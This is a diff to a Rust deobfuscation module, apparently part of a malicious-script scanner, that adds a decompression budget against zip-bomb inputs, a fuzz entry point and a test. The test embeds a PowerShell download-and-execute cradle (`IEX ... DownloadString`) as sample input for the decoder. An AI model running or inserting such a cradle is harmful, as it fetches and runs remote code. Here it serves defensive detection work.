@@ -8,7 +8,8 @@
 //! hexadecimal digits, lists of character codes, a XOR with one byte that the text itself names, and strings that were cut
 //! up (`'a'+'b'`, `"{1}{0}" -f`, ticks, carets). Nothing is run; what depends on a variable stays as it is.
 //!
-//! It is bounded: [`MAX_DEPTH`] layers, [`MAX_LAYERS`] texts, [`MAX_BYTES`] bytes in all, whatever a packed stream claims.
+//! It is bounded: [`MAX_DEPTH`] layers, [`MAX_LAYERS`] texts, [`MAX_BYTES`] bytes in all, and [`MAX_INFLATED`] bytes unpacked on
+//! the way, whatever a packed stream claims.
 //!
 //! What this module never does: execute, guess keys, panic on any text.
 
@@ -27,6 +28,13 @@ pub const MAX_LAYERS: usize = 24;
 
 /// Bytes of all texts together. A longer text is looked at as far as this.
 pub const MAX_BYTES: usize = 256 << 10;
+
+/// Bytes that one call may inflate, whether or not a text comes out of them: what is kept is bounded by [`MAX_BYTES`], and
+/// so must be the work for what is thrown away. A text can hold hundreds of streams that swell a thousandfold.
+pub const MAX_INFLATED: usize = 4 * MAX_BYTES;
+
+/// So much of a packed stream tells whether it is text.
+const BEGINNING: usize = 4 << 10;
 
 /// Runs of one kind that are looked into per text: a text that is all runs of rubbish costs no more than this.
 const MAX_RUNS: usize = 64;
@@ -78,21 +86,40 @@ pub fn is_wrapped(text: &str) -> bool {
 
 /// Everything that lies under a text, outermost first. Empty for nearly every text.
 pub fn unfold(text: &str) -> Vec<Layer> {
+    within(text, &mut Left { kept: MAX_BYTES, inflated: MAX_INFLATED })
+}
+
+fn within(text: &str, left: &mut Left) -> Vec<Layer> {
     let mut layers: Vec<Layer> = Vec::new();
     if !is_wrapped(text) {
         return layers;
     }
-    let mut left = MAX_BYTES;
-    under(head(text, MAX_BYTES), 1, &mut layers, &mut left);
+    under(head(text, MAX_BYTES), 1, &mut layers, left);
     let mut next = 0;
     while let Some(layer) = layers.get(next) {
         let (inner, depth) = (layer.text.clone(), layer.depth);
         next += 1;
         if depth < MAX_DEPTH {
-            under(&inner, depth + 1, &mut layers, &mut left);
+            under(&inner, depth + 1, &mut layers, left);
         }
     }
     layers
+}
+
+/// Unfolds any bytes: the fuzzer's door. Whatever comes in, it returns, within its limits.
+pub fn fuzz(data: &[u8]) {
+    let text = String::from_utf8_lossy(data);
+    let layers = unfold(&text);
+    assert!(layers.len() <= MAX_LAYERS && layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
+    assert!(layers.iter().all(|l| (1..=MAX_DEPTH).contains(&l.depth) && is_wrapped(&text)));
+}
+
+/// What one call may still do.
+struct Left {
+    /// Bytes of texts to keep.
+    kept: usize,
+    /// Bytes to inflate.
+    inflated: usize,
 }
 
 /// The beginning of a text, on a character boundary.
@@ -105,12 +132,13 @@ fn head(text: &str, max: usize) -> &str {
 }
 
 /// Adds what lies directly under a text.
-fn under(text: &str, depth: usize, layers: &mut Vec<Layer>, left: &mut usize) {
+fn under(text: &str, depth: usize, layers: &mut Vec<Layer>, left: &mut Left) {
+    let Left { kept, inflated } = left;
     let mut add = |how: &'static str, inner: String| {
-        let fits = layers.len() < MAX_LAYERS && inner.len() <= *left;
+        let fits = layers.len() < MAX_LAYERS && inner.len() <= *kept;
         let new = inner != text && !layers.iter().any(|l| l.text == inner);
         if fits && new && !inner.trim().is_empty() {
-            *left -= inner.len();
+            *kept -= inner.len();
             layers.push(Layer { how, depth, text: inner });
         }
     };
@@ -120,18 +148,18 @@ fn under(text: &str, depth: usize, layers: &mut Vec<Layer>, left: &mut usize) {
     let key = codes::xor_key(text);
     for run in runs(text, MIN_BASE64, is_base64) {
         let Some(bytes) = base64(run) else { continue };
-        if let Some((how, inner)) = opened(&bytes, key) {
+        if let Some((how, inner)) = opened(&bytes, key, inflated) {
             add(how, inner);
         }
     }
     for run in runs(text, MIN_HEX, |b| b.is_ascii_hexdigit()) {
         let Some(bytes) = codes::hex(run) else { continue };
-        if let Some((_, inner)) = opened(&bytes, key) {
+        if let Some((_, inner)) = opened(&bytes, key, inflated) {
             add("hexadecimal", inner);
         }
     }
     for bytes in codes::characters(text).into_iter().take(MAX_RUNS) {
-        if let Some((_, inner)) = opened(&bytes, key) {
+        if let Some((_, inner)) = opened(&bytes, key, inflated) {
             add("characters", inner);
         }
     }
@@ -187,10 +215,9 @@ fn base64(run: &str) -> Option<Vec<u8>> {
 }
 
 /// The text in bytes: unpacked if they are packed, with the key taken off if one is known.
-fn opened(bytes: &[u8], key: Option<u8>) -> Option<(&'static str, String)> {
+fn opened(bytes: &[u8], key: Option<u8>, left: &mut usize) -> Option<(&'static str, String)> {
     if bytes.starts_with(&[0x1f, 0x8b]) {
-        let inner = inflated(flate2::read::GzDecoder::new(bytes));
-        return text_of(&inner).map(|t| ("base64, gzip", t));
+        return inflate(flate2::read::GzDecoder::new(bytes), left).map(|t| ("base64, gzip", t));
     }
     if let Some(text) = text_of(bytes) {
         return Some(("base64", text));
@@ -202,16 +229,31 @@ fn opened(bytes: &[u8], key: Option<u8>) -> Option<(&'static str, String)> {
         }
     }
     // A raw stream has no signature: it counts only if text comes out of it.
-    let inner = inflated(flate2::read::DeflateDecoder::new(bytes));
-    text_of(&inner).filter(|t| t.len() >= 16).map(|t| ("base64, deflate", t))
+    let inner = inflate(flate2::read::DeflateDecoder::new(bytes), left);
+    inner.filter(|t| t.len() >= 16).map(|t| ("base64, deflate", t))
 }
 
-/// What a packed stream holds, as far as it may be long and can be read.
-fn inflated(reader: impl std::io::Read) -> Vec<u8> {
+/// The text in a packed stream, as far as it may be long. A stream that does not begin like a text is let go after its
+/// beginning, so that a few that hold nothing do not use up what the one behind them needs.
+fn inflate(mut reader: impl std::io::Read, left: &mut usize) -> Option<String> {
     let mut out = Vec::new();
-    // A stream that is cut short still says what was read of it.
-    let _ = reader.take(MAX_BYTES as u64).read_to_end(&mut out);
-    out
+    let mut more = |out: &mut Vec<u8>, max: usize| {
+        let before = out.len();
+        // A stream that is cut short still says what was read of it.
+        let _ = reader.by_ref().take(max.min(*left) as u64).read_to_end(out);
+        *left = left.saturating_sub(out.len() - before);
+    };
+    more(&mut out, BEGINNING);
+    if out.len() == BEGINNING {
+        let whole = match std::str::from_utf8(&out) {
+            // A character that lies across the end.
+            Err(e) if e.error_len().is_none() => e.valid_up_to(),
+            _ => out.len(),
+        };
+        text_of(out.get(..whole)?)?;
+        more(&mut out, MAX_BYTES - BEGINNING);
+    }
+    text_of(&out)
 }
 
 /// Bytes as text, if they are text: UTF-16 if every other byte is nought, else UTF-8; nearly all of it readable.
@@ -236,4 +278,49 @@ fn text_of(bytes: &[u8]) -> Option<String> {
         good += usize::from(readable(&c) && c.is_ascii());
     }
     (all >= 4 && good * 20 >= all * 19).then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write as _;
+
+    use super::*;
+
+    /// Base64 of a raw stream that holds a text.
+    fn packed(text: &[u8], salt: usize) -> String {
+        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut packer = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+        packer.write_all(text).unwrap();
+        // No two alike: what was met before is not kept again.
+        packer.write_all(salt.to_string().as_bytes()).unwrap();
+        let bytes = packer.finish().unwrap();
+        let mut out = String::new();
+        for three in bytes.chunks(3) {
+            let n = three.iter().fold(0_u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - three.len()));
+            (0..=three.len()).for_each(|i| out.push(char::from(DIGITS[(n >> (18 - 6 * i) & 63) as usize])));
+        }
+        out
+    }
+
+    fn spent(text: &str) -> (usize, Vec<Layer>) {
+        let mut left = Left { kept: MAX_BYTES, inflated: MAX_INFLATED };
+        let layers = within(text, &mut left);
+        (MAX_INFLATED - left.inflated, layers)
+    }
+
+    #[test]
+    fn what_swells_costs_no_more_than_the_allowance() {
+        // Streams of nothing: each is let go after its beginning, and the script behind them is found.
+        let nothing: Vec<String> = (0..60).map(|i| packed(&vec![0; 1 << 20], i)).collect();
+        let script = packed(b"IEX (New-Object Net.WebClient).DownloadString('x')", 7);
+        let (cost, layers) = spent(&format!("{} {script}", nothing.join(" ")));
+        // Runs of one letter are hexadecimal digits as well, so a stream is tried twice at most.
+        assert!(cost <= 2 * 61 * BEGINNING, "{cost}");
+        assert!(layers.iter().any(|l| l.how == "base64, deflate" && l.text.starts_with("IEX")), "{layers:?}");
+        // Streams of letters are texts, each longer than all that may be kept: they stop at the allowance.
+        let letters: Vec<String> = (0..60).map(|i| packed(&vec![b'a'; 1 << 20], i)).collect();
+        let (cost, layers) = spent(&letters.join(" "));
+        assert!(cost <= MAX_INFLATED, "{cost}");
+        assert!(layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
+    }
 }
